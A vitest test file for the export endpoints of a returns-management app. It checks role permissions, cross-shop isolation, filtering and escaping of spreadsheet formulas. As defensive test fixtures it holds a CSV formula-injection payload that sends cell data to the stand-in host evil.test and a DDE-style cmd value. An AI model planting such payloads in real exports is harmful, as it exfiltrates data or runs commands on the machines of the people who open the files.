import { afterAll, beforeAll, expect, test } from 'vitest'
import { startProduct, submitted } from './a-product.ts'
import type { Product } from './a-product.ts'

let product: Product
let one: { readonly returnId: string; readonly rma: string }
const formula = '=HYPERLINK("https://evil.test/?x="&A1,"click")'
const wide = '＝cmd|calc'

beforeAll(async () => {
  product = await startProduct()
  for (const userId of ['1', '2', '3', '4']) await product.admin('/app', { userId })
  for (const [staffId, role] of [
    ['3', 'warehouse'],
    ['4', 'finance'],
  ] as const)
    await product.admin('/app/settings', { form: { intent: 'set_role', staffId, role } })
  one = await submitted(product, { order: '#1007', email: 'sophie.mulder@example.com', note: formula })
  await product.rows(`update returns set customer_name = $1`, [wide])
})
afterAll(() => product.close())

const files = () => ['/app/returns/export', `/app/returns/${one.returnId}/export`] as const

test('who may export saves the list and the case in every format, and the warehouse saves none', async () => {
  for (const path of files())
    for (const query of [
      { format: 'csv' },
      { format: 'csv', of: 'lines' },
      { format: 'json' },
      { format: 'pdf' },
    ]) {
      const statuses = await Promise.all(
        ['1', '2', '3', '4'].map(async (userId) => (await product.admin(path, { userId, query })).status),
      )
      expect([path, query, statuses]).toEqual([path, query, [200, 200, 403, 200]])
    }
  const chosen = { id: one.returnId, format: 'csv' }
  expect((await product.admin('/app/returns/export', { userId: '3', form: chosen })).status).toBe(403)
  const nobody = await product.admin('/app/returns/export', { token: null })
  expect(nobody.text).not.toContain(one.rma)
})

test('a name and a note that would run are text in a spreadsheet and themselves in JSON', async () => {
  const list = await product.admin('/app/returns/export', { query: { format: 'csv' } })
  expect(list.headers.get('content-type')).toBe('text/csv; charset=utf-8')
  expect(list.headers.get('content-disposition')).toBe('attachment; filename="returns.csv"')
  expect(list.html).toContain(`,'${wide},`)
  const lines = await product.admin('/app/returns/export', { query: { format: 'csv', of: 'lines' } })
  expect(lines.html).toContain(`"'${formula.replaceAll('"', '""')}"`)
  const json = await product.admin('/app/returns/export', { query: { format: 'json' } })
  const [found] = JSON.parse(json.html) as { customer: string; lines: { note: string }[] }[]
  expect([found?.customer, found?.lines[0]?.note]).toEqual([wide, formula])
})

test('what is saved is what the list was filtered to, or what was chosen', async () => {
  const closed = await product.admin('/app/returns/export', { query: { format: 'json', status: 'closed' } })
  expect(JSON.parse(closed.html)).toEqual([])
  const chosen = await product.admin('/app/returns/export', { form: { id: one.returnId, format: 'json' } })
  expect(JSON.parse(chosen.html)).toMatchObject([{ rma: one.rma }])
  const many = Array.from({ length: 1_001 }, (_, index) => ['id', `r-${index}`] as const)
  expect((await product.admin('/app/returns/export', { form: many })).status).toBe(413)
})

test('another shop saves nothing of ours: not by its list, not by our ids', async () => {
  const standIn = product.other
  for (const query of [{ format: 'csv' }, { format: 'json' }]) {
    expect((await product.admin('/app/returns/export', { standIn, query })).html).not.toContain(one.rma)
    const form = { id: one.returnId, ...query }
    expect((await product.admin('/app/returns/export', { standIn, form })).html).not.toContain(one.rma)
  }
  const path = `/app/returns/${one.returnId}/export`
  expect((await product.admin(path, { standIn })).status).toBe(404)
  const rows = (await product.admin(path, { standIn, query: { format: 'csv' } })).html.split('\r\n')
  expect(rows).toHaveLength(2)
})

test('the columns join with the order that Shopify has', async () => {
  const json = await product.admin('/app/returns/export', { query: { format: 'json' } })
  const [found] = JSON.parse(json.html) as { order_id: string; lines: { line_id: string; sku: string }[] }[]
  const order = product.standIn.books.orderByName('#1007')
  expect(found?.order_id).toBe(order?.id)
  expect(order?.lineItems.map(({ id }) => id)).toContain(found?.lines[0]?.line_id)
})
